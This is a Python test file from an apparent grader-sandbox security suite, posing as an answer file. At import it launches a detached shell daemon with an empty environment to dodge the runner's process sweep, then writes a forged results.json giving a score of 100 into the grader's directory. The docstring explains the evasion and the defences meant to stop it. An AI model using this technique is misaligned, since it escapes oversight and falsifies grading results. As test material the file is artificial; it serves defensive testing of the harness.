"""Hostile: a daemon that drops the run's environment tag, so the runner's sweep cannot recognise it.

Attack: at import, start `/bin/sh -c "sleep 1.5; ..."` in a new session (start_new_session) with an
EMPTY environment. The runner kills the process group (the daemon left it) and then every process
whose environment holds GRADER_RUN=<tag> — which this one no longer has. After the grading returns,
the shell writes a marker file and a forged results.json into the grader's working directory.

Expected: no process survives the grading and the marker is never written. At the strict level the
PID namespace dies with the sandbox, taking the daemon along. At the process level the grader, as
the subreaper of its runs, kills every orphan that re-parents to it. (Found by this suite: the
daemon used to survive the process level, whose sweep looked for the tag only.)
"""
# ATTACKED: q2d
# HONEST: q1a q2a q4c_alpha1 q4c_alpha2

import math
import os
import subprocess

q1a = "Normalizing flows"
q2a = -math.log(2)
q4c_alpha1 = 0.9
q4c_alpha2 = 0.8
q2d = 0.5  # wrong

try:
    GRADER_CWD = os.readlink(f"/proc/{os.getppid()}/cwd")
except OSError:
    GRADER_CWD = "/nonexistent"

SCRIPT = ("sleep 1.5; echo 'SECTEST written after the run by a clean-environment daemon' "
          "> /tmp/SECTEST-late-clean-env; "
          f"echo '{{\"score\": 100, \"SECTEST\": 1}}' > '{GRADER_CWD}/results.json'; : SECTEST")
subprocess.Popen(["/bin/sh", "-c", SCRIPT], env={}, start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                 close_fds=True)
